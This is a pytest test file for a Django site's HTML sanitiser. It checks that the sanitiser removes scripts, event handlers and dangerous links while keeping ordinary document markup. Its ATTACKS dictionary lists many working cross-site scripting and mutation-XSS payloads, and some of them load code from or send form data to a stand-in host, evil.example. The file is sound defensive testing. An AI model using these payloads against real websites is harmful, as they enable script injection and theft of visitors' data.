"""Text at the door: nothing that runs, loads or restyles, and nothing that cannot be kept."""

import re
from html.parser import HTMLParser

import pytest
from django.core.exceptions import ValidationError
from hypothesis import given, settings
from hypothesis import strategies as st

from imcwp_site.text import (
    HTML_ATTRIBUTES,
    HTML_TAGS,
    absolute_links,
    as_html,
    clean_html,
    find_unsound,
    plain_text,
    validate_sound,
)

# The known ways to make a page run, load or restyle something, each by its kind.
ATTACKS = {
    "script": "<script>alert(1)</script>",
    "script in capitals": "<ScRiPt SRC=//evil.example/x.js></sCrIpT >",
    "script with a slash": "<script/src=//evil.example/x.js></script>",
    "script nested in itself": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "script left open": "<script>alert(1)",
    "script with a NUL": "<scr\0ipt>alert(1)</scr\0ipt>",
    "script in svg": "<svg><script>alert(1)</script></svg>",
    "script in math": "<math><mtext><script>alert(1)</script></mtext></math>",
    "script behind a full-width bracket": "＜script＞alert(1)＜/script＞",
    "bracket doubled": "<<script>alert(1);//<</script>",
    "handler on an allowed tag": "<p onclick=alert(1)>x</p>",
    "handler on an image": "<img src=x onerror=alert(1)>",
    "handler after a slash": "<svg/onload=alert(1)>",
    "handler after a line feed": "<p\nonmouseover\n=\nalert(1)>x</p>",
    "handler after a form feed": "<p\x0conmouseover=alert(1)>x</p>",
    "handler after a closed quotation": '<p title="x"onmouseover="alert(1)">x</p>',
    "handler in back quotes": "<img src=`x`onerror=alert(1)>",
    "handler in an unclosed tag": "<img src=x onerror=alert(1)",
    "handler on body": "<body onload=alert(1)>",
    "handler on details": "<details open ontoggle=alert(1)>x</details>",
    "handler on media": "<video><source onerror=alert(1)></video>",
    "handler on marquee": "<marquee onstart=alert(1)>x</marquee>",
    "handler on focus": "<input autofocus onfocus=alert(1)>",
    "handler on animation": "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
    "javascript link": "<a href=javascript:alert(1)>x</a>",
    "javascript link in capitals": "<a href=JaVaScRiPt:alert(1)>x</a>",
    "javascript link with a tab": "<a href='java\tscript:alert(1)'>x</a>",
    "javascript link with a tab entity": "<a href='java&Tab;script:alert(1)'>x</a>",
    "javascript link with a line feed entity": "<a href='java&#10;script:alert(1)'>x</a>",
    "javascript link with a control entity": "<a href='java&#1;script:alert(1)'>x</a>",
    "javascript link with a DEL entity": "<a href='java&#127;script:alert(1)'>x</a>",
    "javascript link with a non-character": "<a href='java&#xffff;script:alert(1)'>x</a>",
    "javascript link with a control": "<a href='java\x01script:alert(1)'>x</a>",
    "javascript link after a control": "<a href='\x01javascript:alert(1)'>x</a>",
    "javascript link after a control entity": "<a href='&#14; javascript:alert(1)'>x</a>",
    "javascript link after spaces": "<a href='  javascript:alert(1)'>x</a>",
    "javascript link in entities": "<a href='&#106;avascript&#58;alert(1)'>x</a>",
    "javascript link in hexadecimal entities": "<a href='&#x6A&#x61;vascript:alert(1)'>x</a>",
    "javascript link with a named colon": "<a href='javascript&colon;alert(1)'>x</a>",
    "javascript link with a surrogate": "<a href='java\ud800script:alert(1)'>x</a>",
    "vbscript link": "<a href='vbscript:msgbox(1)'>x</a>",
    "data link": "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "data link in base64": "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
    "blob link": "<a href='blob:https://evil.example/x'>x</a>",
    "file link": "<a href='file:///etc/passwd'>x</a>",
    "source view link": "<a href='view-source:javascript:alert(1)'>x</a>",
    "link from svg": "<svg><a xlink:href='javascript:alert(1)'>x</a></svg>",
    "link target": "<a href='https://example.org' target=_blank ping='//evil.example'>x</a>",
    "quotation with an address": "<blockquote cite='javascript:alert(1)'>x</blockquote>",
    "style element": "<style>@import '//evil.example/x.css'</style>",
    "style attribute": "<p style='background:url(//evil.example/x)'>x</p>",
    "style expression": "<div style='width:expression(alert(1))'>x</div>",
    "name on a tag that goes": "<svg><pattern id=x onclick=alert(1)></pattern></svg><b id=y>z</b>",
    "class and id": "<p class=site-header id=main>x</p>",
    "name that covers the document's own": "<a name=getElementById>x</a>",
    "style sheet link": "<link rel=stylesheet href=//evil.example/x.css>",
    "base address": "<base href=//evil.example/>",
    "refresh": "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "frame": "<iframe src=javascript:alert(1)></iframe>",
    "frame with a document": "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "frame set": "<frameset><frame src=javascript:alert(1)></frameset>",
    "object": "<object data=javascript:alert(1)></object>",
    "embed": "<embed src=//evil.example/x.swf>",
    "applet": "<applet code=x></applet>",
    "image that reports": "<img src=//evil.example/pixel.gif>",
    "picture": "<picture><source srcset=//evil.example/x><img></picture>",
    "background": "<table background=//evil.example/x><tr><td>x</table>",
    "form": "<form action=//evil.example><input name=password></form>",
    "button": "<button formaction=javascript:alert(1)>x</button>",
    "text area left open": "<textarea><p>x",
    "template": "<template><script>alert(1)</script></template>",
    "comment": "<!--><script>alert(1)</script>-->",
    "comment with a condition": "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "comment ended early": "<!-- --!><img src=x onerror=alert(1)> -->",
    "processing instruction": "<?xml-stylesheet href='javascript:alert(1)'?>",
    "document type with an entity": "<!DOCTYPE x [<!ENTITY e 'x'>]><p>x</p>",
    "character data": "<![CDATA[<script>alert(1)</script>]]>",
    "character data in svg": "<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>",
    "noscript with a hidden end": "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "mutation by style in math": (
        "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 "
        "onerror=alert(1)&gt;'>"
    ),
    "mutation by form in math": (
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>"
    ),
    "mutation by title in svg": "<svg></p><title><a title='</title><img src=x onerror=alert(1)>'>",
    "mutation by foreign object": (
        "<svg><foreignObject><iframe><img src=x onerror=alert(1)></foreignObject></svg>"
    ),
    "mutation by noembed": "<noembed><img title='</noembed><img src=x onerror=alert(1)>'>",
    "mutation by xmp": "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>",
    "mutation by listing": "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
    "plain text left open": "<plaintext><img src=x onerror=alert(1)>",
    "select": "<select><style></select><img src=x onerror=alert(1)></style>",
    "data in UTF-7": "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "entities that name a tag": "&lt;script&gt;alert(1)&lt;/script&gt;",
    "entities twice": "&amp;lt;script&amp;gt;alert(1)",
    "editable": "<div contenteditable is=x-y slot=z part=q>x</div>",
    "language that closes its attribute": """<p lang='en" onclick="alert(1)'>x</p>""",
    "language that closes its tag": """<p lang='"><script>alert(1)</script>'>x</p>""",
    "custom element": "<x-evil onclick=alert(1)>x</x-evil>",
}


class Reader(HTMLParser):
    """Collects the tags and attributes that a browser would see."""

    def __init__(self, html):
        super().__init__()
        self.seen = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.seen.append((tag, dict(attrs)))

    def handle_comment(self, data):
        self.seen.append(("comment", {}))

    handle_decl = handle_pi = unknown_decl = handle_comment


def assert_harmless(html):
    """Check that `html` holds nothing but allowed tags with allowed attributes and addresses."""
    assert not find_unsound(html)
    for tag, attributes in Reader(html).seen:
        assert tag in HTML_TAGS
        allowed = HTML_ATTRIBUTES["*"] | HTML_ATTRIBUTES.get(tag, set())
        assert attributes.keys() <= allowed | ({"rel"} if tag == "a" else set())
        # A browser leaves these characters out of an address, and then reads its scheme.
        address = re.sub(r"^[\x00-\x20]+|[\t\n\r]", "", attributes.get("href") or "")
        if scheme := re.match(r"[a-z][a-z0-9+.-]*:", address.lower()):
            assert scheme.group() in {"http:", "https:", "mailto:"}


@pytest.mark.parametrize("html", ATTACKS.values(), ids=ATTACKS)
def test_clean_html_takes_the_harm_out(html):
    cleaned = clean_html(html)

    assert_harmless(cleaned)
    assert clean_html(cleaned) == cleaned


@pytest.mark.parametrize("html", ATTACKS.values(), ids=ATTACKS)
def test_clean_html_takes_the_harm_out_of_the_middle_of_a_document(html):
    cleaned = clean_html(f"<h2>Before</h2><p lang=ar dir=rtl>{html}</p><p>After</p>")

    assert_harmless(cleaned)
    assert cleaned.startswith("<h2>Before</h2>")


@pytest.mark.parametrize(
    "html",
    [
        "<pre>\n\n\nx</pre>",
        "<p>&#13;x</p>",
        "<h2 dir=rtl><table><h2 dir=rtl>",
        "<a href=/x><table><a href=/y>",
        "<table><p>x<td><a href=/x><table><a href=/y>",
        "<b>\r\n</b>\r\nx",
    ],
)
def test_clean_html_of_misnested_tags_and_odd_line_ends_is_done_at_once(html):
    cleaned = clean_html(html)

    assert clean_html(cleaned) == cleaned


pieces = st.sampled_from(
    [
        *("<p>", "</p>", "<a href='", '<a href="', "'>", '">', ">", "<", "/>", "</a>", "<b>"),
        *("<table>", "<tr>", "<td>", "</table>", "<svg>", "</svg>", "<math>", "<style>", "<i "),
        *("<!--", "-->", "<![CDATA[", "]]>", "<script>", "</script>", "<li>", "<ul>", "</style>"),
        *("javascript:", "&#1;", "&#x7f;", "&lt;", "&amp;", "&nbsp;", "&", "\0", "\x01", "\ud800"),
        *("onclick=x", " lang=", "<title>", "</title>", "<br>", "<h2 dir=rtl>", "<pre>", "</pre>"),
        *(" ", "\n", "=", "'", '"', "`", "x"),
    ]
)


@settings(deadline=None, max_examples=300)
@given(st.lists(pieces | st.text(max_size=5), max_size=30).map("".join))
def test_clean_html_is_harmless_and_done_at_once(html):
    cleaned = clean_html(html)

    assert_harmless(cleaned)
    assert clean_html(cleaned) == cleaned


@pytest.mark.parametrize(
    "html",
    [
        "<h2>Title</h2><p>Words, <strong>strong</strong> and <em>stressed</em>.<br>A line.</p>",
        '<p lang="ar" dir="rtl">الحزب <span lang="en" dir="ltr">CP</span></p>',
        '<blockquote lang="el"><p>Προλετάριοι</p></blockquote>',
        '<ol start="3" type="a"><li>One</li><li>Two<ul><li>Below</li></ul></li></ol>',
        "<dl><dt>Term</dt><dd>Meaning</dd></dl><hr><pre>  as\n  written</pre>",
        '<table><caption>Votes</caption><thead><tr><th scope="col" colspan="2">Year</th></tr>'
        '</thead><tbody><tr><td rowspan="2">1998</td><td>11</td></tr></tbody></table>',
        "<p>H<sub>2</sub>O, 21<sup>st</sup>, <s>struck</s>, <cite>cited</cite></p>",
        '<p><abbr title="Example Party">EP</abbr></p>',
        "<p>5 &lt; 6 &amp; 7 &gt; 6</p>",
        "<p>КПРФ, ΚΚΕ, حزب توده, 日本共産党, 👩‍👩‍👧</p>",
    ],
)
def test_clean_html_keeps_what_a_document_needs(html):
    assert clean_html(html) == html


@pytest.mark.parametrize(
    "address",
    ["https://ркрп.рус/", "http://example.org/?a=1&amp;b=2", "mailto:press@example.org", "/about/"],
)
def test_clean_html_keeps_links_and_says_that_they_are_not_ours(address):
    assert clean_html(f'<a href="{address}" hreflang="ru" title="T">x</a>') == (
        f'<a href="{address}" hreflang="ru" title="T" rel="nofollow noopener">x</a>'
    )


def test_clean_html_mends_what_a_word_processor_leaves():
    html = (
        '<p class="MsoNormal" style="margin:0cm"><o:p></o:p><span lang="EN-GB" '
        'style="font-size:12pt">Words</span><font color=red>red</font></p>'
    )

    assert clean_html(html) == '<p><span lang="EN-GB">Words</span>red</p>'


@pytest.mark.parametrize("html", ["", " \n ", "<script></script>", "\0", "<!-- -->"])
def test_clean_html_of_nothing_is_nothing(html):
    assert clean_html(html) == ""


# Plain text


@pytest.mark.parametrize(
    ("html", "text"),
    [
        ("<p>One</p><p>Two</p>", "One\nTwo"),
        ("<h2>Title</h2><p>One<br>Two</p>", "Title\nOne\nTwo"),
        ("<ul><li>One<ul><li>Below</li></ul></li><li>Two</li></ul>", "One\nBelow\nTwo"),
        ("<div>Before<p>One</p>After</div>", "Before\nOne\nAfter"),
        ("<table><tr><th>Year</th><td>1998</td></tr><tr><td>x</td></tr></table>", "Year 1998\nx"),
        ("<p>A paragraph\nin  two\tlines</p>", "A paragraph in two lines"),
        ("<p>5 &lt; 6 &amp; a&nbsp;b</p>", "5 < 6 & a b"),
        ("<p>&lt;b&gt; and &amp;amp;</p>", "<b> and &amp;"),
        ("<p>no<strong>break</strong> within</p>", "nobreak within"),
        ("<p>H<sub>2</sub>O</p>", "H2O"),
        ("<p> </p><p>&nbsp;</p><hr>", ""),
        ("", ""),
    ],
)
def test_plain_text_gives_a_paragraph_a_line(html, text):
    assert plain_text(clean_html(html)) == text


@settings(deadline=None)
@given(st.lists(st.text("abc <>&é日", min_size=1, max_size=8), max_size=5))
def test_plain_text_gives_back_the_words_of_paragraphs(paragraphs):
    words = [" ".join(paragraph.split()) for paragraph in paragraphs]
    escaped = [line.replace("&", "&amp;").replace("<", "&lt;") for line in words]

    html = clean_html("".join(f"<p>{line}</p>" for line in escaped))

    assert plain_text(html) == "\n".join(line for line in words if line)


# Soundness


@pytest.mark.parametrize(
    "character",
    ["\0", "\x01", "\x08", "\x0b", "\x1f", "\x7f", "\x9f", "\ud800", "\ufffe", "\uffff"],
)
def test_unsound_character_is_named_and_refused(character):
    text = f"Words {character} words"

    assert find_unsound(text) == f"U+{ord(character):04X}"
    assert find_unsound(clean_html(text)) == ""
    with pytest.raises(ValidationError, match=r"U\+"):
        validate_sound(text)


@pytest.mark.parametrize(
    "text", ["", "a\tb\r\nc", "\u200e\u200f\u202b", "\u200d", "\ufffd", "\ue000", "👩‍👩‍👧", "\xa0"]
)
def test_sound_text_passes(text):
    validate_sound(text)

    assert find_unsound(text) == ""


def test_no_text_is_sound():
    validate_sound(None)


@pytest.mark.parametrize(
    ("typed", "html"),
    [
        ("", ""),
        ("One.\n\nTwo,\nthree.", "<p>One.</p>\n\n<p>Two,<br>three.</p>"),
        ("One.\r\n \r\nTwo.", "<p>One.</p>\n\n<p>Two.</p>"),
        ("Price 5 < 6.\n\nMore.", "<p>Price 5 &lt; 6.</p>\n\n<p>More.</p>"),
        (
            "He wrote <sic> this.\n\n<the end>",
            "<p>He wrote &lt;sic> this.</p>\n\n<p>&lt;the end></p>",
        ),
        ("One <b>bold</b> word.\n\nTwo.", "<p>One <b>bold</b> word.</p>\n\n<p>Two.</p>"),
        ("<p>Already</p>\n\n<p>HTML</p>", "<p>Already</p>\n\n<p>HTML</p>"),
        ("<script>alert(1)</script>", "<p>&lt;script>alert(1)&lt;/script></p>"),
    ],
)
def test_typed_words_become_paragraphs_and_lose_nothing(typed, html):
    assert as_html(typed) == html


def test_first_heading_of_a_document_becomes_one_of_a_section():
    assert clean_html('<h1 lang="en">Title</h1><H1>B</H1>') == '<h2 lang="en">Title</h2><h2>B</h2>'


def test_links_to_this_site_are_made_whole():
    html = (
        '<a href="/about/">us</a> <a href="//x.example/">x</a> <a href="https://y.example/">y</a>'
    )

    assert absolute_links(html, "https://site.example") == html.replace(
        '"/about/"', '"https://site.example/about/"'
    )
